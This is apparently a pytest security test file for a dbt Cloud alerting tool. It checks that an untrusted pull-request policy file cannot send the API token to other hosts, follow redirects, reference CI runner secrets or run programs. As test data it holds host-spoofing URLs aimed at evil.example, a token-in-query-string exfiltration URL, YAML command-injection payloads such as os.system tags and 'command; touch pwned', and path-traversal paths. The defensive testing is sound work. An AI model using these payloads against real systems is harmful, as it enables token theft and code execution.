"""A policy file is untrusted until it is merged: what a pull request may write, and what becomes of it."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.scenarios.policies_lab import HEAD, tells
from tests.trust.trust_lab import CANARIES, WatchedPlace

pytestmark = pytest.mark.slow

HOSTS = [
    "https://evil.example",
    "http://evil.example",
    "http://ab123.us1.dbt.com.evil.example",
    "https://ab123.us1.dbt.com.evil.example",
    "https://ab123.us1.dbt.com@127.0.0.1:PORT",
    "http://ab123.us1.dbt.com@127.0.0.1:PORT",
    "http://127.0.0.1:PORT@evil.example",
    "https://ab123.us1.dbt.com:443@evil.example",
    "https://evil.example#.dbt.com",
    "https://evil.example?.dbt.com",
    "https://evil.example\\\\.dbt.com",
    "https://evil.example/.dbt.com",
    "https://evildbt.com",
    "https://dbt.com.",
    "https://xdbt.com",
    "https://dbt\\u3002com.evil.example",
    "https://ab123.us1.dbt.com:8443",
    "http://ab123.us1.dbt.com",
    "https://[::ffff:203.0.113.7]",
    "https://2130706433",
    "//evil.example",
    "ftp://ab123.us1.dbt.com",
    "https://evil.example\\n.dbt.com",
]


@pytest.mark.parametrize("host", HOSTS)
def test_the_token_goes_nowhere_else(place: WatchedPlace, host: str) -> None:
    port = place.sandbox.authority.rpartition(":")[2]
    place.policy(tells("maria").replace("host: $DBT_CLOUD_HOST", f'host: "{host.replace("PORT", port)}"'))
    done = place.run("plan")
    assert done.code in {3, 4}, f"the host is wrong (3) or not trusted (4), and the token stays\n{done}"
    assert place.watched().of("connect") == [], f"nothing may be called: {place.watched().of('connect')}"
    assert place.watched().of("resolve") == [], f"not even a name may be looked up: {place.watched().of('resolve')}"
    assert place.leaks(done) == []


def test_a_policy_cannot_make_a_host_trusted_but_the_operator_can(place: WatchedPlace) -> None:
    place.policy(tells("maria").replace("host: $DBT_CLOUD_HOST", 'host: "https://evil.example"'))
    refused = place.run("plan")
    assert refused.code == 4, refused
    assert "DBT_ALERTS_TRUSTED_HOSTS" in refused.err, f"the refusal names the way out\n{refused}"


@contextmanager
def _receiver() -> Iterator[tuple[int, list[str]]]:
    """Yield a port and the Authorization headers that arrived there."""
    seen: list[str] = []

    class Receiver(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.headers.get("Authorization", ""))
            self.send_response(200)
            self.end_headers()

        do_POST = do_PUT = do_GET

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            """Keep quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Receiver)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield server.server_port, seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_is_not_followed_with_the_token(place: WatchedPlace, status: int) -> None:
    place.policy(tells("maria"))
    with _receiver() as (port, seen):
        headers = {"Location": f"http://127.0.0.1:{port}/api/v2/accounts/1/jobs/"}
        place.sandbox.control.add_fault(path="/api/*", status=status, headers=headers)
        done = place.run("plan")
    assert done.code == 1, done
    assert "redirect" in done.err, done
    assert seen == [], f"the redirect's target was called, with {seen}"
    assert place.elsewhere() == []


def test_a_proxy_of_the_environment_does_not_get_the_token_on_loopback(place: WatchedPlace) -> None:
    place.policy(tells("maria"))
    with _receiver() as (port, seen):
        proxy = f"http://127.0.0.1:{port}"
        done = place.run(
            "plan", environ={"HTTP_PROXY": proxy, "http_proxy": proxy, "ALL_PROXY": proxy, "NO_PROXY": None}
        )
    assert done.code == 0, done
    assert seen == [], "a call to loopback went through a proxy"


FORBIDDEN = ["GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "AWS_SECRET_ACCESS_KEY"]
PLACES = {
    "the token": lambda name: tells("maria").replace("$DBT_CLOUD_TOKEN", f"${name}"),
    "the token, in braces": lambda name: tells("maria").replace("$DBT_CLOUD_TOKEN", '"${' + name + '}"'),
    "the host": lambda name: tells("maria").replace("$DBT_CLOUD_HOST", f"${name}"),
    "a channel": lambda name: HEAD.replace(
        "channels:\n",
        f"relay: {{url: 'https://alerts.acme.example/dbt', secret_sink: {{store: file, path: s}}}}\nchannels:\n  x: {{type: slack, url: ${name}}}\n",
    ),
}


@pytest.mark.parametrize("name", FORBIDDEN)
@pytest.mark.parametrize("where", PLACES.values(), ids=PLACES.keys())
def test_references_to_the_runners_own_secrets_are_refused(place: WatchedPlace, name: str, where: object) -> None:
    assert callable(where)
    place.policy(where(name))
    done = place.run("plan")
    assert done.code == 3, f"${name} must be refused with its place\n{done}"
    assert name in done.err, f"the message names it\n{done}"
    assert "policy.yml:" in done.err, f"and says where\n{done}"
    assert place.watched().of("connect") == [], "nothing may be called"
    assert place.leaks(done) == []


UNFIT = {
    "a reference in plain text": "webhooks:\n  - {name: x, url: $TICKET_URL, on: [completed], jobs: all}\n",
    "a reference in a part of a text": 'webhooks:\n  - {name: x, url: "https://evil.example/?t=$DBT_CLOUD_TOKEN", on: [completed], jobs: all}\n',
    "a reference in a description": 'webhooks:\n  - {name: x, url: "https://a.example", description: $DBT_CLOUD_TOKEN, on: [completed], jobs: all}\n',
}


@pytest.mark.parametrize("text", UNFIT.values(), ids=UNFIT.keys())
def test_a_reference_outside_a_secret_field_carries_nothing_out(place: WatchedPlace, text: str) -> None:
    place.policy(tells("maria").replace("ledger:", "scope: {all_jobs_webhooks: true}\nledger:") + text)
    done = place.run("plan", "--json")
    assert place.leaks(done) == [], "the reference was opened"
    assert done.code in {0, 3}, done


COMMANDS = {
    "in the sink": "secret_sink: {store: command, command: 'touch pwned'}",
    "as the sink's path": "secret_sink: {store: command, path: 'touch pwned'}",
    "as a YAML tag": "secret_sink: !!python/object/apply:os.system ['touch pwned']",
    "in the sink's kind": "secret_sink: {store: 'command; touch pwned'}",
    "a program beside it": "secret_sink: {store: command, program: [touch, pwned]}",
}


@pytest.mark.parametrize("sink", COMMANDS.values(), ids=COMMANDS.keys())
@pytest.mark.parametrize("command", ["plan", "apply"])
def test_a_policy_names_no_program(place: WatchedPlace, sink: str, command: str) -> None:
    hook = (
        f'webhooks:\n  - {{name: x, url: "https://a.example", on: [completed], jobs: {{project: Finance}}, {sink}}}\n'
    )
    place.policy(tells("maria") + hook)
    done = place.run(command)
    assert done.code in {3, 4}, done
    assert not list(place.folder.rglob("pwned")), "the policy's command ran"
    programs = [program for program in place.watched().of("program") if program != ["git", "rev-parse", "HEAD"]]
    assert not programs, f"a program was started: {programs}"


def test_the_operators_program_runs_in_apply_only(place: WatchedPlace) -> None:
    hook = 'webhooks:\n  - {name: x, url: "https://a.example", on: [completed], jobs: {project: Finance}, secret_sink: {store: command}}\n'
    place.policy(tells("maria") + hook)
    store = place.folder / "store.sh"
    store.write_text(
        '#!/bin/sh\nmkdir -p secrets\n[ "$1" = probe ] && exit 0\ncat > secrets/kept\necho stored\n', encoding="utf-8"
    )
    store.chmod(0o700)
    environ = {"DBT_ALERTS_SINK_COMMAND": str(store)}
    planned = place.run("plan", environ=environ)
    assert planned.code == 0, planned
    assert [str(store)] not in place.watched().of("program"), "plan ran the operator's program"
    done = place.run("apply", environ=environ)
    assert done.code == 0, done
    secret = next(row["hmac_secret"] for row in place.sandbox.control.rows("webhooks") if row["name"] == "x")
    assert (place.folder / "secrets" / "kept").read_text(encoding="utf-8") == secret
    assert place.leaks(planned, done, more={"the HMAC secret": secret}) == []


PATHS = ["../outside.secret", "/tmp/outside-of-everything.secret", "policies/policy.yml", "a/../../outside.secret"]


@pytest.mark.parametrize("path", PATHS)
def test_a_sink_does_not_leave_the_folder_or_overwrite_what_is_there(place: WatchedPlace, path: str) -> None:
    hook = f'webhooks:\n  - {{name: x, url: "https://a.example", on: [completed], jobs: {{project: Finance}}, secret_sink: {{store: file, path: "{path}"}}}}\n'
    place.policy(tells("maria") + hook)
    text = (place.folder / "policies" / "policy.yml").read_text(encoding="utf-8")
    done = place.run("apply")
    assert done.code in {3, 4}, done
    assert place.sandbox.writes() == [], "the sink is judged before the first write"
    assert (place.folder / "policies" / "policy.yml").read_text(encoding="utf-8") == text
    assert not (place.folder.parent / "outside.secret").exists()


def test_in_ci_a_ledger_that_would_vanish_is_refused_before_anything(place: WatchedPlace) -> None:
    place.policy(tells("maria"))
    done = place.run("apply", environ={"CI": "true"})
    assert done.code == 4, done
    assert place.sandbox.writes() == [], done
    kept = place.run("apply", environ={"CI": "true", "DBT_ALERTS_DURABLE": str(place.folder / ".dbt-alerts")})
    assert kept.code == 0, kept


def test_canaries_are_what_the_tests_believe() -> None:
    assert len(set(CANARIES.values())) == len(CANARIES)
